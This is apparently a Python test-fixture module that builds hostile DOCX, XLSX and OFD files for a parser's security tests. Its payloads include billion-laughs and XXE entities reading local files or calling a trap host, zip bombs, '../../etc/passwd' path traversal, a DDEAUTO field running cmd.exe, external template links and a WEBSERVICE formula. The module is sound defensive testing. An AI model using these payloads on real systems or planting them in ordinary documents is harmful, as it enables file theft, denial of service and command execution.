"""Word, Excel and OFD files that mean harm."""

import io
import zipfile
from collections.abc import Callable, Iterator

from training.hostile.pictures import png_of
from training.hostile.row import Ending, Row, Trap, of_bytes
from training.hostile.squeezed import zip_of

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{more}</Types>'
)
_BILLION = '<!DOCTYPE d [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip
_QUADRATIC = f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>'


def _zipped(parts: dict[str, str | bytes]) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return found.getvalue()


def word_parts(
    body: str, links: str = "", before: str = "", more: dict[str, str | bytes] | None = None
) -> dict[str, str | bytes]:
    """`links` are relationships of the document, `before` stands in front of its root."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{_W}" xmlns:r="{_R}" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f"<w:body>{body}</w:body></w:document>"
    )
    return {
        "[Content_Types].xml": _TYPES.format(main="word/document.xml", kind="wordprocessingml.document", more=""),
        "_rels/.rels": _relations(f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": _relations(links),
        **(more or {}),
    }


def _relations(links: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{links}</Relationships>'


def _paragraph(text: str = "行政处罚决定书") -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _cell(span: int | str = 1, text: str = "甲") -> str:
    return f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{_paragraph(text)}</w:tc>'


def _table(rows: int, columns: int, span: int | str = 1) -> str:
    row = f"<w:tr>{_cell(span) * columns}</w:tr>"
    return f"<w:tbl><w:tblPr/><w:tblGrid/>{row * rows}</w:tbl>"


def _nested(depth: int) -> str:
    return f"<w:tbl><w:tr><w:tc>{'<w:tbl><w:tr><w:tc>' * depth}{_paragraph()}{'</w:tc></w:tr></w:tbl>' * depth}<w:p/></w:tc></w:tr></w:tbl>"


def _picture(embed: str, link: bool = False) -> str:
    how = "link" if link else "embed"
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="5000000" cy="7000000"/><a:graphic><a:graphicData><pic:pic><pic:blipFill>'
        f'<a:blip r:{how}="{embed}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )


def _outer(kind: str, target: str) -> str:
    return f'<Relationship Id="x" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'


def _field(words: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{words}"><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>{_paragraph()}'


def word(body: str, links: str = "", before: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    return _zipped(word_parts(body, links, before, more))


def _bomb_beside(name: bytes, mebibytes: int, fill: bytes) -> bytes:
    parts = [
        (key.encode(), one.encode() if isinstance(one, str) else one) for key, one in word_parts(_paragraph()).items()
    ]
    return zip_of([part for part in parts if part[0] != name], [(name, mebibytes, fill)])


def _many_parts(count: int) -> bytes:
    parts = [
        (key.encode(), one.encode() if isinstance(one, str) else one) for key, one in word_parts(_paragraph()).items()
    ]
    return zip_of([*parts, *((b"x/%d.xml" % number, b"") for number in range(count))])


def _twice() -> bytes:
    parts = [
        (key.encode(), one.encode() if isinstance(one, str) else one) for key, one in word_parts(_paragraph()).items()
    ]
    return zip_of([*parts, (b"WORD/document.xml", b"<a/>")])


def docx_rows(trap: Trap) -> Iterator[Row]:
    link = f"http://{trap.address}"
    canary = trap.canary.as_posix()

    def made(
        name: str, make: Callable[[], bytes], may: tuple[Ending, ...] = ("ok", "refused"), gated: bool = False
    ) -> Row:
        return Row("Word", f"word-{name}.docx", of_bytes(make), may, gated)

    no: tuple[Ending, ...] = ("refused",)
    yield made("good", lambda: word(_paragraph()), ("ok",))
    yield made("billion-laughs", lambda: word(_paragraph("&j;"), before=_BILLION), no, True)
    yield made("quadratic", lambda: word(_paragraph("&a;" * 2_000), before=_QUADRATIC), no, True)
    yield made(
        "entity-file",
        lambda: word(_paragraph("&e;"), before=f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{canary}">]>'),
        no,
        True,
    )
    yield made(
        "entity-http", lambda: word(_paragraph("&e;"), before=f'<!DOCTYPE d [<!ENTITY e SYSTEM "{link}/e">]>'), no, True
    )
    yield made("dtd-http", lambda: word(_paragraph(), before=f'<!DOCTYPE d SYSTEM "{link}/d.dtd">'), no, True)
    yield made("dtd-late", lambda: word(_paragraph(), before=f"<!--{'x' * 4000}--><!DOCTYPE d []>"), no, True)
    yield made(
        "utf-7",
        lambda: _zipped(
            {**word_parts(_paragraph()), "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}
        ),
        no,
        True,
    )
    yield made("text-1-gib", lambda: _bomb_beside(b"word/document.xml", 1024, b"<a>text"), no, True)
    yield made("paragraphs-256-mib", lambda: _bomb_beside(b"word/document.xml", 256, b"<w:p/>"), no, True)
    yield made("bomb-beside", lambda: _bomb_beside(b"docProps/thumbnail.xml", 400, b"<x/>"), no, True)
    yield made("paragraphs", lambda: word("<w:p/>" * 300_000))
    yield made("depth-250", lambda: word("<w:p>" * 80 + "<w:r><w:t>甲</w:t></w:r>" + "</w:p>" * 80))
    yield made("depth-40000", lambda: word("<w:sdt><w:sdtContent>" * 20_000 + "</w:sdtContent></w:sdt>" * 20_000), no)
    yield made("tables-nested", lambda: word(_nested(70)))
    yield made("table-2000-60", lambda: word(_table(2_000, 60)))
    yield made("span-3e8", lambda: word(_table(2, 2, 300_000_000)), no)
    yield made("span-no-number", lambda: word(_table(2, 2, "1e999999")))
    yield made("span-long", lambda: word(_table(2, 2, "9" * 5_000)))
    yield made("parts-100000", lambda: _many_parts(100_000), no, True)
    yield made("names-outside", lambda: _zipped({**word_parts(_paragraph()), "../../../outside.xml": "<a/>"}), no, True)
    yield made("names-twice", _twice, no, True)
    yield made(
        "picture-linked", lambda: word(_picture("x", link=True) + _paragraph(), _outer("image", link + "/p.png"))
    )
    yield made(
        "picture-file", lambda: word(_picture("x", link=True) + _paragraph(), _outer("image", "file://" + canary))
    )
    yield made("template", lambda: word(_paragraph(), _outer("attachedTemplate", link + "/t.dotm")))
    yield made(
        "sub-document", lambda: word('<w:subDoc r:id="x"/>' + _paragraph(), _outer("subDocument", "file://" + canary))
    )
    yield made(
        "chunk-html",
        lambda: word(
            '<w:altChunk r:id="x"/>' + _paragraph(),
            f'<Relationship Id="x" Type="{_R}/aFChunk" Target="c.html"/>',
            "",
            {"word/c.html": f"<img src='{link}/c'>"},
        ),
    )
    yield made(
        "field-include",
        lambda: word(_field(f"INCLUDETEXT &quot;{canary}&quot;") + _field(f"INCLUDEPICTURE {link}/i \\d")),
    )
    yield made("field-dde", lambda: word(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")))
    yield made(
        "macros",
        lambda: word(
            _paragraph(),
            f'<Relationship Id="v" Type="{_R}/vbaProject" Target="vbaProject.bin"/>',
            "",
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100},
        ),
    )
    yield made(
        "picture-bomb",
        lambda: word(
            _picture("p") + _paragraph(),
            f'<Relationship Id="p" Type="{_R}/image" Target="p.png"/>',
            "",
            {"word/p.png": png_of(60_000, 60_000)},
        ),
    )
    yield made(
        "formula-text",
        lambda: word(
            _paragraph("=HYPERLINK(&quot;http://x&quot;)")
            + _paragraph("@SUM(1)")
            + _paragraph("{{7*7}}\u202edocx.exe&lt;script&gt;")
        ),
    )
    yield made("cut", lambda: word(_paragraph())[:500], no)
    yield made(
        "relations-ring",
        lambda: _zipped(
            {
                **word_parts(_paragraph()),
                "word/_rels/document.xml.rels": _relations(
                    f'<Relationship Id="a" Type="{_R}/header" Target="document.xml"/><Relationship Id="b" Type="{_R}/styles" Target="../word/document.xml"/>'
                ),
            }
        ),
    )
    yield made(
        "numbering-flood",
        lambda: word(
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="-7"/></w:numPr></w:pPr></w:p>' * 2_000
            + _paragraph()
        ),
    )


_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _book(sheet: str, before: str = "", more: dict[str, str | bytes] | None = None) -> dict[str, str | bytes]:
    worksheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return {
        "[Content_Types].xml": _TYPES.format(
            main="xl/workbook.xml",
            kind="spreadsheetml.sheet",
            more=f'<Override PartName="/xl/worksheets/s.xml" ContentType="{worksheet}"/>',
        ),
        "_rels/.rels": _relations(f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<?xml version="1.0"?>{before}<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets><sheet name="a" sheetId="1" r:id="s"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _relations(
            f'<Relationship Id="s" Type="{_R}/worksheet" Target="worksheets/s.xml"/>'
        ),
        "xl/worksheets/s.xml": f'<?xml version="1.0"?><worksheet xmlns="{_S}">{sheet}</worksheet>',
        **(more or {}),
    }


def _rows(rows: str, before: str = "", after: str = "") -> str:
    return f"{before}<sheetData>{rows}</sheetData>{after}"


_CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>清单</t></is></c></row>'


def _cells_flood() -> bytes:
    parts = [(key.encode(), one.encode() if isinstance(one, str) else one) for key, one in _book("").items()]
    parts = [part for part in parts if part[0] != b"xl/worksheets/s.xml"]
    sheet = (
        f'<worksheet xmlns="{_S}"><sheetData><row>'.encode()
        + b"<c><v>1</v></c>" * 3_000_000
        + b"</row></sheetData></worksheet>"
    )
    return _zipped({**{key.decode(): one for key, one in parts}, "xl/worksheets/s.xml": sheet})


def xlsx_rows(trap: Trap) -> Iterator[Row]:
    def made(
        name: str, make: Callable[[], bytes], may: tuple[Ending, ...] = ("ok", "refused"), gated: bool = False
    ) -> Row:
        return Row("Excel", f"sheet-{name}.xlsx", of_bytes(make), may, gated)

    no: tuple[Ending, ...] = ("refused",)
    yield made("good", lambda: _zipped(_book(_rows(_CELL))), ("ok",))
    yield made("dimension", lambda: _zipped(_book(_rows(_CELL, '<dimension ref="A1:XFD1048576"/>'))))
    yield made(
        "last-cell", lambda: _zipped(_book(_rows(_CELL + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')))
    )
    yield made("cells-3-million", _cells_flood, no, True)
    yield made(
        "merged-all",
        lambda: _zipped(_book(_rows(_CELL, "", '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))),
        no,
        True,
    )
    yield made("entities", lambda: _zipped(_book(_rows(_CELL), _BILLION)), no, True)
    yield made(
        "entity-http", lambda: _zipped(_book(_rows(_CELL), f'<!DOCTYPE d SYSTEM "http://{trap.address}/d">')), no, True
    )
    yield made(
        "link-outside",
        lambda: _zipped(
            _book(
                _rows(_CELL),
                "",
                {
                    "xl/externalLinks/e.xml": f'<externalLink xmlns="{_S}"/>',
                    "xl/externalLinks/_rels/e.xml.rels": _relations(
                        _outer("externalLinkPath", f"http://{trap.address}/x")
                    ),
                },
            )
        ),
    )
    yield made(
        "formula",
        lambda: _zipped(
            _book(_rows('<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://x")</f><v>=1+1</v></c></row>'))
        ),
    )
    yield made(
        "strings-missing", lambda: _zipped(_book(_rows('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>')))
    )
    yield made(
        "row-numbers", lambda: _zipped(_book(_rows('<row r="99999999999999"><c r="ZZZZZZ1"><v>1</v></c></row>')))
    )


_OFD = 'xmlns:ofd="http://www.ofdspec.org/2016"'


def ofd(
    page: str = "",
    root: str = "Doc_0/Document.xml",
    before: str = "",
    base: str = "Pages/P.xml",
    more: dict[str, str | bytes] | None = None,
) -> bytes:
    text = '<ofd:TextObject ID="5" Boundary="20 20 150 10" Font="1" Size="5"><ofd:TextCode X="0" Y="5">行政处罚决定书</ofd:TextCode></ofd:TextObject>'
    return _zipped({
        "OFD.xml": f'<?xml version="1.0"?>{before}<ofd:OFD {_OFD}><ofd:DocBody><ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
        "Doc_0/Document.xml": f'<ofd:Document {_OFD}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="{base}"/></ofd:Pages></ofd:Document>',
        "Doc_0/Pages/P.xml": f"<ofd:Page {_OFD}><ofd:Content><ofd:Layer>{text}{page}</ofd:Layer></ofd:Content></ofd:Page>",
        **(more or {}),
    })  # fmt: skip


def ofd_rows(trap: Trap) -> Iterator[Row]:
    def made(
        name: str, make: Callable[[], bytes], may: tuple[Ending, ...] = ("ok", "refused"), gated: bool = False
    ) -> Row:
        return Row("OFD", f"ofd-{name}.ofd", of_bytes(make), may, gated)

    no: tuple[Ending, ...] = ("refused",)
    canary = trap.canary.as_posix()
    many = '<ofd:PathObject Boundary="0 0 9 9"><ofd:AbbreviatedData>M 0 0 L 9 0</ofd:AbbreviatedData></ofd:PathObject>'
    yield made("good", ofd, ("ok",))
    yield made("entities", lambda: ofd(before=_BILLION), no, True)
    yield made(
        "entity-file", lambda: ofd(before=f'<!DOCTYPE o [<!ENTITY e SYSTEM "file://{canary}">]>', root="&e;"), no, True
    )
    yield made("entity-http", lambda: ofd(before=f'<!DOCTYPE o SYSTEM "http://{trap.address}/o">'), no, True)
    yield made("root-outside", lambda: ofd(root="../../../../etc/passwd"), no, True)
    yield made("root-canary", lambda: ofd(root="/../.." + canary), no, True)
    yield made("page-http", lambda: ofd(base=f"http://{trap.address}/p"))
    yield made("page-ring", lambda: ofd(base="Document.xml"))
    yield made("blocks-deep", lambda: ofd("<ofd:PageBlock>" * 100 + "</ofd:PageBlock>" * 100))
    yield made("blocks-deeper", lambda: ofd("<ofd:PageBlock>" * 30_000 + "</ofd:PageBlock>" * 30_000))
    yield made("objects-flood", lambda: ofd(many * 120_000))
    yield made(
        "steps-flood",
        lambda: ofd(
            f'<ofd:TextObject Boundary="0 0 9 9" Size="1e308"><ofd:TextCode DeltaX="g 999999999 1e308">{"甲" * 100}</ofd:TextCode></ofd:TextObject>'
        ),
    )
    yield made(
        "numbers-odd",
        lambda: ofd(
            '<ofd:TextObject Boundary="nan inf -inf nan" Size="nan" CTM="inf 0 0 nan 0 0"><ofd:TextCode X="nan" Y="inf">甲乙</ofd:TextCode></ofd:TextObject>'
        ),
    )
    yield made("cut", lambda: ofd()[:600], no)
    yield made("image-missing", lambda: ofd('<ofd:ImageObject Boundary="0 0 210 297" ResourceID="99"/>'))
